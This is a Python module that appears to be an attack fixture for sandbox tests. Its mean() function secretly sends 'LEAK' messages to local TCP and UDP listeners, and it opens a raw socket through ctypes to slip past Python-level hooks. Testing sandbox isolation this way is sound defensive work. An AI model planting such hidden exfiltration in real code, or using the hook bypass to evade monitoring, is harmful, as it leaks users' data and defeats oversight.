"""Attack: send what the worker knows to listeners on 127.0.0.1 over TCP and UDP, also through
a raw ``socket()`` system call (ctypes), which Python-level hooks would not see.

``TARGETS`` (the listeners' ports) is filled in by tests/test_attacks.py.
"""

import ctypes
import errno
import socket

TARGETS = {}  # @TARGETS@


def _name(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))


def _exfiltrate():
    if not TARGETS:
        return
    try:
        with socket.create_connection(("127.0.0.1", TARGETS["tcp"]), timeout=2) as conn:
            conn.sendall(b"LEAK tcp")
        print("OBSERVED tcp: sent", flush=True)
    except OSError as exc:
        print(f"OBSERVED tcp: {_name(exc)}", flush=True)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"LEAK udp", ("127.0.0.1", TARGETS["udp"]))
        print("OBSERVED udp: sent", flush=True)
    except OSError as exc:
        print(f"OBSERVED udp: {_name(exc)}", flush=True)
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
    if fd < 0:
        print(f"OBSERVED raw socket: {errno.errorcode.get(ctypes.get_errno())}", flush=True)
    else:
        print("OBSERVED raw socket: opened", flush=True)
        libc.close(fd)


def mean(values):
    _exfiltrate()
    return 0


def median(values):
    return 0
